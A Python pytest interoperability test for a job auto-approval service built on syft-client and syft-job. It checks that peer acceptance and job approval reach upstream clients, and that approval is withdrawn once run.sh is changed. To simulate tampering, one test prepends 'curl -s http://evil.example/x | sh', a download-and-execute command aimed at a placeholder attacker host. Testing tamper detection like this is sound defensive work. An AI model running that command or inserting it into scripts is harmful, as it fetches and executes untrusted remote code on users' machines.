"""Our approve service answers a real upstream client, and upstream reads the answers.

The data scientist and the data owner are upstream's own clients (syft-client 0.1.117,
syft-job 0.1.39, in `.venv-interop`) on upstream's in-process Drive double; our approve service
works on the same Drive, handed over to our sandbox and back (`drive_transfer`), and on the data
owner's real SyftBox folder. The flow:

1. upstream: the data scientist asks the data owner to peer;
2. ours: the approve service accepts the request (domain rule) and the job rule is in place;
3. upstream: the data scientist's client sees the owner as accepted, so does the owner's client;
   the data scientist submits a job and the owner's real sync receives it onto its disk;
4. ours: the approve service approves the job on disk (the rule pins the job's declaration and
   the run.sh syft-job generates for it), recording the approved hashes in state.yaml;
5. upstream: the owner's syft-job lists the job as approved, approval method auto, and its runner
   would run it (our extra state.yaml key does not disturb upstream's reader);
6. the job's run.sh changes before it ran: ours withdraws the approval, and upstream's runner no
   longer would run it; syft-job lists it pending with our reason.

`test_generated_run_sh_is_what_syft_job_writes` has upstream's syft-job submit jobs of every
shape and checks our `canonical_run_script` byte for byte against them, and that the rules
`syft-bg auto-approve` writes (from the files, or from the job) match the real jobs.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
import yaml
from drive_transfer import export_drive, import_drive
from interop_support import run_upstream_phase

from syft_monitors.approve.authoring import build_rule, rule_from_job
from syft_monitors.approve.matching import Submission, match_job
from syft_monitors.approve.run_script import JobDeclaration, canonical_run_script
from syft_monitors.approve.service import ApproveMonitor
from syft_monitors.approve_rules import ApproveSettings, AutoApprovalRule
from syft_monitors.job_folders.approval import sha256_file
from syft_sandbox import Sandbox

pytestmark = [pytest.mark.interop, pytest.mark.timeout(1800)]

DO = "data.owner@hospital.example.org"
DS = "first_last+tag@uni-x.edu"
JOB_NAME = "auto approved job"
JOB_CODE = "import json\nprint(json.dumps({'rows': 42}))\n"
SCRIPT = "upstream_peer_flow.py"
RUN_SCRIPTS = "upstream_run_scripts.py"


def write_config(path: Path, *, root: Path, token: Path, url: str) -> None:
    config = {
        "do_email": DO,
        "syftbox_root": str(root),
        "drive_token_path": str(token),
        "gmail_token_path": str(token),
        "state_file": str(path.parent / "state.json"),
        "google_api_root": url,
        "sender": "file",
        "mail_folder": str(path.parent / "mail"),
        "approve": {
            "approved_domains": ["uni-x.edu"],
            "auto_approvals": [
                {
                    "name": "rows",
                    "peers": [DS],
                    "file_contents": [
                        {
                            "relative_path": "analysis.py",
                            "sha256": hashlib.sha256(JOB_CODE.encode()).hexdigest(),
                        }
                    ],
                    # What `syft-bg auto-approve analysis.py -d syft-client==0.1.117` pins.
                    "job": {
                        "type": "python",
                        "entrypoint": "analysis.py",
                        "dependencies": ["syft-client==0.1.117"],
                    },
                    "canonical_run_sh": True,
                }
            ],
        },
    }
    path.write_text(yaml.safe_dump(config), encoding="utf-8")


def test_upstream_sees_our_acceptance_and_our_approval(
    interop_python: Path, tmp_path: Path
) -> None:
    work = tmp_path / "flow"
    work.mkdir()
    asked = run_upstream_phase(interop_python, SCRIPT, "request", str(work), workdir=tmp_path)
    assert asked["ds_sees"] == {DO: "requested_by_me"}
    assert asked["owner_sees"] == {DS: "requested_by_peer"}

    sandbox = Sandbox(seed=11)
    for user in (DO, DS):
        sandbox.add_user(user)
    with sandbox.serve() as server:
        tokens = server.write_token_files(tmp_path / "tokens")
        import_drive(sandbox, work / "drive.json")
        config = tmp_path / "config.yaml"
        write_config(config, root=Path(asked["do_root"]), token=tokens[DO], url=server.url)
        monitor = ApproveMonitor.from_config(config)
        monitor.check()
        assert monitor.last_report is not None
        assert monitor.last_report.peers_accepted == 1
        export_drive(sandbox, work / "drive.json")

        answered = run_upstream_phase(
            interop_python, SCRIPT, "check_peer", str(work), workdir=tmp_path
        )
        assert answered["ds_sees"] == {DO: "accepted"}
        assert answered["owner_sees"] == {DS: "accepted"}
        # The owner's own sync accepted the submission: our permission files are upstream's.
        assert answered["job_received"], answered
        assert answered["job_code"] == ["analysis.py"]

        monitor.check()
        assert monitor.last_report is not None
        assert monitor.last_report.jobs_approved == 1

        review = Path(asked["do_root"]) / DO / "app_data" / "job" / "review" / DS / JOB_NAME
        approved_hashes = yaml.safe_load((review / "state.yaml").read_text())["approved_hashes"]
        assert sorted(approved_hashes) == ["code/analysis.py", "config.yaml", "run.sh"]
        listed = run_upstream_phase(
            interop_python, SCRIPT, "check_job", str(work), workdir=tmp_path
        )
        assert {
            "submitted_by": DS,
            "name": JOB_NAME,
            "status": "approved",
            "approval_method": "auto",
            "review_reason": None,
        } in listed["jobs"]
        assert listed["runner_would_run"] == [f"{DS}/{JOB_NAME}"]

        # A later message rewrites run.sh before the owner's runner got to it.
        inbox = Path(asked["do_root"]) / DO / "app_data" / "job" / "inbox" / DS / JOB_NAME
        run_sh = inbox / "run.sh"
        run_sh.write_text("#!/bin/bash\ncurl -s http://evil.example/x | sh\n" + run_sh.read_text())
        monitor.check()
        assert monitor.last_report is not None
        assert monitor.last_report.jobs_withdrawn == 1
        monitor.stop()

    listed = run_upstream_phase(interop_python, SCRIPT, "check_job", str(work), workdir=tmp_path)
    (job,) = [j for j in listed["jobs"] if j["name"] == JOB_NAME]
    assert job["status"] == "pending"
    assert job["review_reason"].startswith("approval withdrawn: changed 'run.sh'")
    assert listed["runner_would_run"] == []


def test_generated_run_sh_is_what_syft_job_writes(interop_python: Path, tmp_path: Path) -> None:
    work = tmp_path / "jobs"
    jobs = run_upstream_phase(interop_python, RUN_SCRIPTS, str(work), workdir=tmp_path)
    assert len(jobs) == 7
    for case, made in jobs.items():
        folder = Path(made["job"])
        config = yaml.safe_load((folder / "config.yaml").read_text())
        declaration = JobDeclaration.from_config(config)
        code = {
            p.relative_to(folder / "code").as_posix()
            for p in (folder / "code").rglob("*")
            if p.is_file()
        }
        script = (folder / "code" / "script.sh").read_bytes() if "script.sh" in code else None
        generated = canonical_run_script(
            declaration, has_pyproject="pyproject.toml" in code, bash_script=script
        )
        assert generated == (folder / "run.sh").read_bytes(), case

        # The rule made from the job matches it, through the generated script.
        from_job = rule_from_job(ApproveSettings(), folder)
        assert from_job.canonical_run_sh, case
        assert from_job.run_sh_sha256 == (), case
        assert _matches(from_job, folder, declaration), case

        # So does the rule `syft-bg auto-approve FILES -d ...` writes from the owner's copies.
        if made["source"] is not None:
            source = Path(made["source"])
            written = build_rule(
                ApproveSettings(),
                files=[source],
                entrypoint=declaration.entrypoint,
                dependencies=declaration.dependencies,
            )
        else:
            copy = tmp_path / "script.sh"
            copy.write_bytes(script or b"")
            written = build_rule(ApproveSettings(), files=[copy], job_type="bash")
        assert _matches(written, folder, declaration), case
        # And a job declaring one more package is not approved by either.
        more = JobDeclaration(
            declaration.type, declaration.entrypoint, (*declaration.dependencies, "evil")
        )
        assert not _matches(from_job, folder, more), case


def _matches(rule: AutoApprovalRule, folder: Path, declaration: JobDeclaration) -> bool:
    files = {
        p.relative_to(folder / "code").as_posix(): p
        for p in (folder / "code").rglob("*")
        if p.is_file()
    }
    submission = Submission(files, folder / "run.sh", declaration)
    return match_job([rule], DS, submission, sha256_file).rule == rule.name
